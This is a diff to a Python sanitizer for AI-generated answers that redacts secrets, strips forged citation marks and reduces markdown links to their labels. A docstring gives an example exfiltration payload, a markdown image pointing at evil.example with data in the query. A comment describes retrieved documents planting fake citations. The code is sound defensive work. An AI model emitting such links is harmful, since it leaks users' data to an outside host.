@@ -18,6 +18,8 @@ from detect_secrets.plugins.base import RegexBasedDetector
 from detect_secrets.plugins.high_entropy_strings import Base64HighEntropyString, HexHighEntropyString
 from detect_secrets.plugins.keyword import DENYLIST as SECRET_KEYWORDS
 
+from .text import link_labels
+
 MASK = "[redacted]"
 
 # A public IP address is not a credential, and office addresses are legitimate answers.
@@ -48,7 +50,6 @@ _BASE64, _HEX = Base64HighEntropyString(), HexHighEntropyString()
 # Citations travel in `citations`; a `[source::section::0]` in the text is a document's forgery.
 _CITATION_MARK = re.compile(r"\s*\[[^\[\]\s]+::[^\[\]\s]*::\d+\]")
 _URL = re.compile(r"https?://[^\s<>)\]|\"']+")
-_MD_LINK = re.compile(r"!?\[([^\]]*)\]\(([^)\s]*)[^)]*\)")
 
 
 def _looks_like_value(value: str) -> bool:
@@ -83,7 +84,7 @@ def limit_links(text: str, allowed_urls: list[str]) -> str:
     """Markdown links and images become their label; bare URLs survive only when they point at a
     host we cite, so a planted `![x](https://evil.example/?q=…)` cannot carry data out."""
     hosts = {urlparse(url).netloc for url in allowed_urls if url}
-    text = _MD_LINK.sub(lambda m: m.group(1), text)
+    text = link_labels(text)
     return _URL.sub(lambda m: m.group(0) if urlparse(m.group(0)).netloc in hosts else "[link removed]", text)
 
 
